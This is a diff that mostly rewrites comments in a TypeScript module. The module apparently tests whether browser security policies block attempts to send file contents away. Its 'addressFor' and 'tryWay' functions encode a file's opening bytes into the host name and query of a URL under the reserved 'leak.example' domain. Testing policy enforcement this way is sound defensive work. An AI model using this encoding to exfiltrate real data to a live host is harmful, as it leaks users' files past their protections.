@@ -1,48 +1,53 @@
 import type { Refusals } from './hear-refusals.ts';
 import type { Attempt } from './ways-out.ts';
 
-/** `silent`: the browser enforces a policy that refuses it, and says nothing. `unseen`: nothing shows that it was refused. */
+/**
+ * `silent`: the browser enforces a policy that refuses it, but reports nothing. `unseen`: nothing shows that it was
+ * refused.
+ */
 export type Verdict = 'refused' | 'silent' | 'unseen' | 'absent';
 
 export interface Outcome {
   verdict: Verdict;
-  /** What the browser said: names of directives, and errors. */
+  /** The browser's reports: names of directives, and errors. */
   words: string[];
 }
 
-/** A name under `.example` belongs to nobody, and nobody answers at it (RFC 2606). */
+/** Names under `.example` are reserved, and nobody answers there (RFC 2606). */
 const foreign = 'https://leak.example';
 
-/** How long a browser is given to say that it refuses, in milliseconds. */
+/** How long to wait for a browser to report a refusal, in milliseconds. */
 const patience = 250;
 
-/** What one attempt leaves in the place where it runs, and what the browser says to it. */
+/** The effects of one attempt where it runs, and the browser's reactions. */
 export interface Traces {
   refusals: Refusals;
-  /** What else shows that the browser refused. */
+  /** Further evidence that the browser refused. */
   failures(): string[];
-  /** Puts the place back as it was. */
+  /** Restores the place. */
   end(): void;
 }
 
-/** Where attempts run. */
+/** An environment in which attempts run. */
 export interface Place {
-  /** Its attempts go to hosts of their own, whose names begin with it. */
+  /** A prefix for the host names of its attempts. */
   mark: string;
-  /** Follows one attempt, by the name of its host. */
+  /** Follows one attempt, by its host name. */
   follow(hostname: string): Traces;
-  /** Whether it is known that the browser enforces the `Connection-Allowlist` of this place, which refuses without a message. */
+  /**
+   * Whether the browser is known to enforce the `Connection-Allowlist` of this place, which refuses without a message.
+   */
   listHolds: boolean;
 }
 
-/** What is sent away where a way takes only an address: the beginning of a file, as a part of a host's name. */
+/** Encodes the beginning of a file as a label of a host name, for ways that only take an address. */
 const asLabel = (bytes: Uint8Array) =>
   [...bytes.slice(0, 16)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
 
-/** Whatever can be put into text, as one that can be sent. */
+/** Encodes bytes as text that can be sent. */
 export const asText = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes));
 
-/** The address that takes bytes to a host that is not ours: in its name, and behind a question mark. */
+/** The address that would take bytes to a foreign host: in its name, and in a query. */
 export function addressFor(bytes: Uint8Array, mark: string): string {
   const address = new URL('/leak', foreign);
   address.hostname = `${mark}-${asLabel(bytes)}.${address.hostname}`;
@@ -53,10 +58,10 @@ export function addressFor(bytes: Uint8Array, mark: string): string {
 let attempts = 0;
 
 /**
- * Tries to send the beginning of a file away. The verdict is the browser's: an event of its policy, an error that names
- * the origin, or a call that has failed before it began. That nobody answers is no verdict.
+ * Tries to send the beginning of a file away. The verdict is based on the browser: a violation event, an error that
+ * names the origin, or a call that failed before it began. That nobody answers is no verdict.
  *
- * @param tell told of the outcome, and again of what a busy browser says later.
+ * @param tell called with the outcome, and again if a busy browser reports later.
  */
 export async function tryWay(
   attempt: Attempt,
@@ -64,7 +69,7 @@ export async function tryWay(
   { mark, follow, listHolds }: Place,
   tell: (outcome: Outcome) => void,
 ): Promise<void> {
-  // The name says to which attempt it is that a browser says something.
+  // The host name identifies the attempt that a report belongs to.
   const address = addressFor(bytes, `${mark}${++attempts}`);
   const traces = follow(new URL(address).hostname);
   let error: unknown;
@@ -78,7 +83,7 @@ export async function tryWay(
       if (!isRefusal(error)) await pause(patience);
     })();
     await Promise.race([traces.refusals.first, run, pause(patience * 2)]);
-    // A page's policy stands in its header and in itself: what both refuse is told twice.
+    // A page's policy is in its header and in the page itself: what both refuse is reported twice.
     await pause(30);
     const outcome = judge(traces, error, listHolds);
     tell(outcome);
@@ -90,7 +95,7 @@ export async function tryWay(
 
 const pause = (milliseconds: number) => new Promise<void>((resolve) => setTimeout(resolve, milliseconds));
 
-/** Errors that browsers throw by rule, not because nobody answered. */
+/** Errors that browsers throw for a violation, not because nobody answered. */
 const isRefusal = (error: unknown) => error instanceof DOMException && error.name === 'SecurityError';
 
 function judge({ refusals, failures }: Traces, error: unknown, listHolds: boolean): Outcome {
@@ -101,5 +106,5 @@ function judge({ refusals, failures }: Traces, error: unknown, listHolds: boolea
   return { verdict: listHolds ? 'silent' : 'unseen', words };
 }
 
-/** Without the address, which is long, and the same in all. */
+/** Omits the address, which is long, and the same in all. */
 const shorten = (error: unknown) => String(error).replaceAll(/(https?:\/\/)[^\s']*/g, '$1…');
